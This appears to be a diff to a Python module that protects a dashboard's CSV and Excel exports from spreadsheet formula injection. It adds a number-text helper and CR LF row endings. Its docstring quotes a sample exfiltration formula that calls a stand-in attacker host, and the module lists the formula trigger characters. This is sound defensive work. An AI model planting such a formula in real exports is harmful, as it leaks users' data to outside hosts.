@@ -10,9 +10,10 @@ Two places turn text from the source into something live:
 - **Spreadsheets** open a CSV cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or
   carriage return before one) as a formula: ``=HYPERLINK("http://evil.example?"&A1)`` sends
   data away. :func:`neutralise_formulas` prefixes such text cells with ``'``, as OWASP's CSV
-  injection guidance and ASVS 1.2.10 ask, and :func:`csv_bytes` writes every ptx export with
-  it. Numbers stay numbers: numeric columns are untouched and a text cell that is just a number
-  (``-12.5``, ``-1,234``) is left as it is, so negative values remain negative values.
+  injection guidance and ASVS 1.2.10 ask, and :func:`csv_bytes` writes every ptx CSV export
+  with it (:func:`ptx.exports.excel_bytes` every Excel one). Numbers stay numbers: numeric
+  columns are untouched and a text cell that is just a number (``-12.5``, ``-1,234``) is left
+  as it is, so negative values remain negative values.
 """
 
 from __future__ import annotations
@@ -74,6 +75,16 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－
 _NUMBER = re.compile(r"^[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][+-]?\d+)?$")
 
 
+def is_number_text(value: str) -> bool:
+    """Whether text is only a number ("-12.5", "1,234", "3e5"): what a spreadsheet reads as
+    one, and so never a formula.
+
+    >>> is_number_text("-1,234.5"), is_number_text("-"), is_number_text("=1")
+    (True, False, False)
+    """
+    return bool(_NUMBER.match(value)) and any(c.isdigit() for c in value)
+
+
 def neutralise_cell(value: object) -> object:
     """A text cell prefixed with ``'`` when a spreadsheet would read it as a formula; anything
     else (numbers, dates, empty cells, text that is only a number) unchanged.
@@ -85,7 +96,7 @@ def neutralise_cell(value: object) -> object:
     """
     if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
         return value
-    if _NUMBER.match(value) and any(c.isdigit() for c in value):
+    if is_number_text(value):
         return value
     return "'" + value
 
@@ -106,7 +117,11 @@ def csv_bytes(frame: pd.DataFrame) -> bytes:
     """``frame`` as UTF-8 CSV for a download, formula cells neutralised: what every export of
     the dashboard writes.
 
+    Rows end with CR LF (RFC 4180), so a cell holding a carriage return is quoted and stays
+    one cell (with pandas' default line feed it was written bare, and a spreadsheet split the
+    row there).
+
     >>> csv_bytes(pd.DataFrame({"Department": ["=1+1"], "Change": [-2.5]}))
-    b"Department,Change\\n'=1+1,-2.5\\n"
+    b"Department,Change\\r\\n'=1+1,-2.5\\r\\n"
     """
-    return neutralise_formulas(frame).to_csv(index=False).encode("utf-8")
+    return neutralise_formulas(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8")
